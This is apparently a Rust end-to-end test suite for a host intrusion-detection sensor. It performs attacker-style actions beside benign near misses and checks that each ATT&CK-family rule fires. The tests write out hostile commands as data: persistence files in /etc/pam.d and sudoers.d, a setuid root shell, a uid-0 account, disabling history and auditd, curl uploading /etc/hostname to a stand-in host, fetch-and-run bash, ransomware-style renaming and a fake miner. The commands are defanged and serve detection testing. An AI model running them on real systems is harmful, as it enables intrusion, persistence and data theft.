//! ATT&CK technique families on the real kernel, with the shipped rules: each test does the
//! real thing the way an intruder would (with the stock tools, or a copy of one under another
//! name) and gets the family's alert, and a near miss done first gets none.
//!
//! Files under /etc are made with names of their own and removed at once; nothing here
//! changes how the host behaves. The sensor runs in observe mode: containment has its own
//! tests. Each action runs under its own `sh -c`, and alerts are matched to it by lineage.
#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "a test or benchmark stops loudly at the first thing that fails"
)]

use std::process::Command;

use vigil_tests::{
    HttpServer,
    rules::{expect_rule, path, run, run_ok, sensor, tmp},
};

/// A name of this test run's own, for files it makes under /etc.
fn mine(what: &str) -> String {
    format!("vigil-e2e-{what}-{}", std::process::id())
}

#[test]
fn persistence_in_the_places_the_system_runs_from() {
    let Some(s) = sensor("persistence_in_the_places_the_system_runs_from") else {
        return;
    };
    let d = tmp();
    // Near miss: the same names, in a project directory.
    let near = run_ok(&format!(
        "mkdir -p {p}/pam.d {p}/sudoers.d {p}/profile.d && echo x > {p}/pam.d/sshd && echo x > {p}/sudoers.d/a && echo x > {p}/profile.d/a.sh && cat /etc/pam.d/* > /dev/null",
        p = path(&d, "notes")
    ));
    let cases = [
        ("vigil-persistence-pam", "/etc/pam.d", "# vigil test"),
        (
            "vigil-persistence-sudoers",
            "/etc/sudoers.d",
            "# vigil test",
        ),
        (
            "vigil-persistence-global-shell-init",
            "/etc/profile.d",
            "# vigil test",
        ),
        (
            "vigil-persistence-autostart",
            "/etc/udev/rules.d",
            "# vigil test",
        ),
        (
            "vigil-persistence-module-autoload",
            "/etc/modules-load.d",
            "# vigil test",
        ),
        (
            "vigil-persistence-autostart",
            "/etc/apt/apt.conf.d",
            "// vigil test",
        ),
    ];
    for (rule, dir, line) in cases {
        let file = format!("{dir}/{}", mine("p"));
        let real = run(&format!(
            "mkdir -p {dir} && echo '{line}' >> {file}; rm -f {file}"
        ));
        let a = expect_rule(&s, rule, real, Some(near));
        assert_eq!(a["entities"][0], file, "{rule}");
        assert!(
            a["rule"]["tags"]
                .as_array()
                .is_some_and(|t| t.iter().any(|t| t == "persistence")),
            "{rule}"
        );
    }
    // A job for atd, and a transient timer: the scheduler's own tools.
    let near = run_ok("at -l >/dev/null 2>&1; systemd-run --help >/dev/null 2>&1; true");
    let real = run(&format!(
        "echo true | at -f /dev/null now + 1 hour 2>/dev/null; systemd-run --on-active=3600 {} 2>/dev/null; true",
        path(&d, "x")
    ));
    if Command::new("sh")
        .args(["-c", "command -v at"])
        .output()
        .is_ok_and(|o| o.status.success())
    {
        expect_rule(&s, "vigil-persistence-at", real, Some(near));
    } else {
        eprintln!("note: `at` is not installed: its exec was not tried");
    }
    expect_rule(&s, "vigil-persistence-systemd-run-timer", real, Some(near));
}

#[test]
fn privilege_escalation_through_setuid_programs_and_capabilities() {
    let Some(s) = sensor("privilege_escalation_through_setuid_programs_and_capabilities") else {
        return;
    };
    let d = tmp();
    let dir = d.path().to_string_lossy().into_owned();
    // A setuid-root copy of bash, run by nobody with -p: a root shell for an unprivileged user.
    // The near miss: the same copy without the setuid bit.
    let bash = path(&d, "bash");
    let near = run_ok(&format!(
        "chmod 755 {dir} && cp /bin/bash {bash} && chmod 755 {bash} && setpriv --reuid=65534 --regid=65534 --clear-groups {bash} -p -c 'id -u' "
    ));
    let real = run(&format!(
        "chmod 4755 {bash} && setpriv --reuid=65534 --regid=65534 --clear-groups {bash} -p -c 'id -u'"
    ));
    let a = expect_rule(&s, "vigil-privesc-setuid-shell", real, Some(near));
    assert_eq!(a["process"]["euid"], 0);
    assert_eq!(a["process"]["uid"], 65534);

    // File capabilities: cap_setuid on a copy of a program; the near miss grants a harmless
    // one.
    let tool = path(&d, "t");
    let near = run_ok(&format!(
        "cp /bin/true {tool}2 && setcap cap_net_bind_service+ep {tool}2"
    ));
    let real = run(&format!(
        "cp /bin/true {tool} && setcap cap_setuid+ep {tool}"
    ));
    let a = expect_rule(&s, "vigil-privesc-file-capabilities", real, Some(near));
    assert_eq!(a["entities"][0], tool);

    // A second root: useradd asked for uid 0 (in an empty root, where it fails).
    let near = run_ok(&format!(
        "useradd --root {dir} -u 1500 vigiltest 2>/dev/null; true"
    ));
    let real = run(&format!(
        "useradd --root {dir} -o -u 0 vigiltest 2>/dev/null; true"
    ));
    expect_rule(&s, "vigil-privesc-uid0-account", real, Some(near));
}

#[test]
fn defense_evasion_families() {
    let Some(s) = sensor("defense_evasion_families") else {
        return;
    };
    let d = tmp();
    let f = path(&d, "planted");
    // Timestomping: touch -t; the near miss is a plain touch.
    let near = run_ok(&format!("touch {f}"));
    let real = run(&format!("touch -t 201001010000 {f}"));
    expect_rule(&s, "vigil-evasion-timestomp", real, Some(near));

    // History switched off for what the shell runs next.
    let near = run_ok("HISTSIZE=5000 /bin/true");
    let real = run("HISTFILE=/dev/null /bin/true");
    expect_rule(&s, "vigil-evasion-history-disabled", real, Some(near));

    // A hardening sysctl written (its own value again, so nothing changes on the host); the
    // near miss writes a file named like it elsewhere.
    let knob = "/proc/sys/kernel/randomize_va_space";
    let value = std::fs::read_to_string(knob).expect("read sysctl");
    let near = run_ok(&format!(
        "echo {} > {}",
        value.trim(),
        path(&d, "randomize_va_space")
    ));
    let real = run(&format!("echo {} > {knob}", value.trim()));
    expect_rule(&s, "vigil-evasion-hardening-sysctl", real, Some(near));

    // Stopping the audit daemon (the service manager refuses here: PID 1 is not systemd).
    let near = run_ok("systemctl status auditd >/dev/null 2>&1; true");
    let real = run("systemctl stop auditd >/dev/null 2>&1; true");
    expect_rule(&s, "vigil-evasion-security-tools-stopped", real, Some(near));

    // chattr +i on an authorized_keys file; the near miss on a note.
    let ssh = path(&d, "u/.ssh");
    let near = run_ok(&format!(
        "mkdir -p {ssh} && echo n > {p} && chattr +i {p} && chattr -i {p}",
        p = path(&d, "u/note.txt")
    ));
    let real = run(&format!(
        "echo key > {ssh}/authorized_keys && chattr +i {ssh}/authorized_keys && chattr -i {ssh}/authorized_keys"
    ));
    let flags_supported = Command::new("chattr")
        .args(["+i", &path(&d, "u/note.txt")])
        .output()
        .is_ok_and(|o| o.status.success());
    let _ = Command::new("chattr")
        .args(["-i", &path(&d, "u/note.txt")])
        .output();
    if flags_supported {
        expect_rule(&s, "vigil-evasion-immutable-flag", real, Some(near));
    } else {
        eprintln!("note: the temp file system has no inode flags: chattr was not tried");
    }

    // A hidden file straight in /tmp, and a program run from a dot-dot-dot directory; the
    // near miss is a visible file and an ordinary directory.
    let hidden = format!("/tmp/.{}", mine("h"));
    let dots = path(&d, "...");
    let plain = path(&d, "bin");
    let near = run_ok(&format!(
        "echo x > /tmp/{v}; rm -f /tmp/{v}; mkdir -p {plain} && cp /bin/true {plain}/t && {plain}/t",
        v = mine("v")
    ));
    let real = run(&format!(
        "echo x > {hidden}; rm -f {hidden}; mkdir -p {dots} && cp /bin/true {dots}/t && {dots}/t"
    ));
    expect_rule(&s, "vigil-evasion-hidden-files", real, Some(near));
    expect_rule(&s, "vigil-evasion-odd-paths", real, Some(near));

    // Masquerading: a copy of sleep called sshd outside the system directories, and a process
    // renaming itself as a kernel worker; the near miss runs the real programs.
    let fake = path(&d, "sshd");
    let near = run_ok(
        "/usr/bin/sleep 0; python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b\"reporter\", 0, 0, 0)'",
    );
    let real = run(&format!(
        "cp /usr/bin/sleep {fake} && {fake} 0; python3 -c 'import ctypes; ctypes.CDLL(None).prctl(15, b\"kworker/1:3\", 0, 0, 0)'"
    ));
    expect_rule(&s, "vigil-evasion-masquerade-daemon", real, Some(near));
    expect_rule(
        &s,
        "vigil-evasion-masquerade-kernel-thread",
        real,
        Some(near),
    );

    // A library preloaded from /tmp (it does not exist: ld.so says so and goes on); the near
    // miss preloads the system's own libc.
    let libc = std::fs::read_link("/proc/self/exe")
        .ok()
        .and(
            ["/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib64/libc.so.6"]
                .into_iter()
                .find(|p| std::path::Path::new(p).exists()),
        )
        .unwrap_or("/lib/x86_64-linux-gnu/libc.so.6");
    let near = run_ok(&format!("LD_PRELOAD={libc} /bin/true"));
    let real = run(&format!(
        "LD_PRELOAD={} /bin/true 2>/dev/null",
        path(&d, "hook.so")
    ));
    expect_rule(&s, "vigil-evasion-preload-env", real, Some(near));
}

#[test]
fn credential_access_and_discovery() {
    let Some(s) = sensor("credential_access_and_discovery") else {
        return;
    };
    let mut victim = Command::new("sleep").arg("30").spawn().expect("sleep");
    let v = victim.id();
    // Another process's environment; the near miss reads its own.
    let near = run_ok("cat /proc/self/environ > /dev/null");
    let real = run(&format!("cat /proc/{v}/environ > /dev/null"));
    let a = expect_rule(&s, "vigil-cred-process-memory", real, Some(near));
    assert_eq!(a["evidence"][0]["target_pid"], v);
    victim.kill().expect("kill sleep");
    let _ = victim.wait();

    // A burst of look-arounds; the near miss runs one of them five times.
    let near = run_ok("for i in 1 2 3 4 5; do uname -a > /dev/null; done");
    let real = run(
        "id; uname -a; hostname; ps aux > /dev/null; ss -tan > /dev/null; lsmod > /dev/null 2>&1; true",
    );
    expect_rule(&s, "vigil-discovery-burst", real, Some(near));

    // Looking for the sensor and other security tools.
    let near = run_ok("ps aux | grep -c bash > /dev/null");
    let real = run("ps aux | grep -ci 'falco\\|auditd\\|vigil-sensor' > /dev/null; true");
    expect_rule(&s, "vigil-discovery-security-software", real, Some(near));
}

#[test]
fn collection_exfiltration_and_command_and_control() {
    let Some(s) = sensor("collection_exfiltration_and_command_and_control") else {
        return;
    };
    let d = tmp();
    // /etc archived into a hidden file; the near miss archives a project.
    let near = run_ok(&format!(
        "mkdir -p {p} && echo x > {p}/a && tar czf {p}.tgz -C {p} .",
        p = path(&d, "proj")
    ));
    let real = run(&format!(
        "tar czf {} /etc/hostname /etc/os-release 2>/dev/null",
        path(&d, ".b.tgz")
    ));
    expect_rule(&s, "vigil-collection-archive-sensitive", real, Some(near));

    // Uploads and a browser's user agent, to a name curl is told lives on loopback (nothing
    // listens on port 9: the connection is refused, no traffic leaves the host).
    let resolve = "--resolve drop.example:9:127.0.0.1";
    let near = run_ok(&format!(
        "curl -s {resolve} -o /dev/null http://drop.example:9/ ; true"
    ));
    let real = run(&format!(
        "curl -s {resolve} -F f=@/etc/hostname http://drop.example:9/ ; curl -s {resolve} -A 'Mozilla/5.0 (X11; Linux x86_64)' http://drop.example:9/ ; true"
    ));
    expect_rule(&s, "vigil-exfil-upload", real, Some(near));
    expect_rule(&s, "vigil-c2-forged-user-agent", real, Some(near));

    // A script fetched over HTTP and run by bash; the near miss writes the same script
    // locally.
    let site = tmp();
    std::fs::write(site.path().join("i.sh"), "exit 0\n").expect("script");
    let http = HttpServer::serve(&site.path().to_string_lossy(), &[]);
    let near = run_ok(&format!(
        "printf 'exit 0\\n' > {l} && bash {l}",
        l = path(&d, "local.sh")
    ));
    let real = run(&format!(
        "curl -s -o {f} http://127.0.0.1:{}/i.sh && bash {f}",
        http.port,
        f = path(&d, "i.sh")
    ));
    let a = expect_rule(&s, "vigil-exec-downloaded-script", real, Some(near));
    assert!(
        a["entities"]
            .as_array()
            .is_some_and(|e| e.iter().any(|x| x == &serde_json::json!(path(&d, "i.sh")))),
        "the script is named for the quarantine: {}",
        a["entities"]
    );
}

#[test]
fn impact_and_execution_families() {
    let Some(s) = sensor("impact_and_execution_families") else {
        return;
    };
    let d = tmp();
    let files = path(&d, "docs");
    // Mass renaming with an added extension; the near miss renames to other names.
    let near = run_ok(&format!(
        "mkdir -p {files}n && cd {files}n && for i in $(seq 1 25); do echo x > f$i; mv f$i g$i; done"
    ));
    let real = run(&format!(
        "mkdir -p {files} && cd {files} && for i in $(seq 1 25); do echo x > f$i.doc; done && python3 -c \"import os; [os.rename(f, f + '.locked') for f in os.listdir('.')]\""
    ));
    expect_rule(&s, "vigil-impact-mass-rename", real, Some(near));

    // A miner's name and pool options, on a copy of sleep; and a program run from /dev/shm.
    let miner = path(&d, "xmrig");
    let shm = format!("/dev/shm/{}", mine("x"));
    let near = run_ok("/usr/bin/sleep 0 && /bin/true");
    let real = run(&format!(
        "cp /usr/bin/sleep {miner} && {miner} 0 -o stratum+tcp://pool.example:3333 2>/dev/null; cp /bin/true {shm} && {shm}; rm -f {shm}"
    ));
    expect_rule(&s, "vigil-impact-cryptominer", real, Some(near));
    expect_rule(&s, "vigil-exec-from-dev-shm", real, Some(near));

    // A shell escaped from find; the near miss runs a command through sh -c.
    let near = run_ok("find / -maxdepth 0 -exec /bin/sh -c 'true' \\;");
    let real = run("find / -maxdepth 0 -exec /bin/sh \\; < /dev/null");
    expect_rule(&s, "vigil-exec-shell-escape", real, Some(near));

    // Code decoded and run in one breath; the near miss only decodes.
    let near = run_ok("python3 -c \"import base64; print(base64.b64decode('aGk='))\"");
    let real = run("python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"");
    expect_rule(&s, "vigil-exec-obfuscated-command", real, Some(near));
}
